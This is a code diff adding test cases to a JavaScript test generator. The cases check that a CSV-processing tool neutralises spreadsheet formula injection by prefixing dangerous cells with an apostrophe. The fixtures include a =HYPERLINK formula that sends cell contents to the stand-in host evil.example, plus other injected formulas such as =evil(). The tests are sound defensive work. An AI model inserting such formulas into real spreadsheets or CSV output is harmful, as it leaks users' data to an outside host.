@@ -557,5 +557,36 @@ export function generateCases(seed, registry) {
     study.push(file(`study-${String(f).padStart(2, '0')}.csv`, lines.join('\n') + '\n'));
   }
   concept('size', 'a-study-of-30-files', study, { status: 0 }, { perByte: { native: 2, wasm: 2 } });
+
+  // --- 12. CSV out: names, words and replies that a spreadsheet would run
+  // as formulas reach every CSV written with a leading apostrophe; cells
+  // that read in full as numbers (-0.12, +3) stay numbers. `csvOut` names
+  // the files to check (in the case's folder) and the cells they must hold.
+  {
+    const field = (text) => `"${text.replaceAll('"', '""')}"`;
+    const link = '=HYPERLINK("https://evil.example/?"&A1,"click")';
+    const words = ['=1+1', '-fire', '@SUM(1)', '+lemon'];
+    color('csv-out', 'color-tables', [file('formula.csv', m.llmCsv(4, words.map(field), { model_name: field(link) }))], { status: 0 },
+      { argv: ['--tables', 'tables'], csvOut: { files: ['tables/color-words.csv', 'tables/color-populations.csv'], cells: [`'${link}`, ...words.map((w) => `'${w}`)] } });
+    const conceptCsv = ['Concept,ID,Question,ChoiceNumber,model_name',
+      ...m.conceptRows(6, '@concept', ['=a', '-b', '+c']).map((r) => [...r.map(field), field('-population')].join(','))].join('\n') + '\n';
+    concept('csv-out', 'concept-tables', [file('formula-concept.csv', conceptCsv)], { status: 0 },
+      { argv: ['--tables', 'tables'], csvOut: { files: ['tables/concept-subsets.csv', 'tables/concept-reliability.csv', 'tables/concept-map-seating.csv'], cells: ["'-population", "'@concept"] } });
+    // Requests as `shoal prompts` writes them, and replies from a batch API.
+    const requests = [], results = [];
+    const replies = { '=1+1': `${link} #ff0000`, '-fire': '-0.12', '@SUM(1)': '@SUM(A1) #00ff00', '+lemon': '+3', sky: '#0000ff' };
+    for (let individual = 0; individual < 2; ++individual) {
+      for (const block of [1, 2]) {
+        for (const [word, reply] of Object.entries(replies)) {
+          const id = `color/none/default/${individual}/${block}/${encodeURIComponent(word)}`;
+          requests.push({ custom_id: id, method: 'POST', url: '/v1/chat/completions', body: { model: link, messages: [{ role: 'user', content: word }], max_tokens: 200 } });
+          results.push({ custom_id: id, content: reply });
+        }
+      }
+    }
+    results.push({ custom_id: '=evil()', content: 'x' });
+    add('csv-out', 'replies-and-problems', 'replies', [file('requests.jsonl', jsonl(requests)), file('results.jsonl', jsonl(results))], { status: 0 },
+      { argv: ['--problems', 'problems.csv'], csvOut: { files: ['report.json', 'problems.csv'], cells: [`'${link}`, `'${link} #ff0000`, "'@SUM(A1) #00ff00", "'=evil()", '-0.12', '+3'] } });
+  }
   return cases;
 }
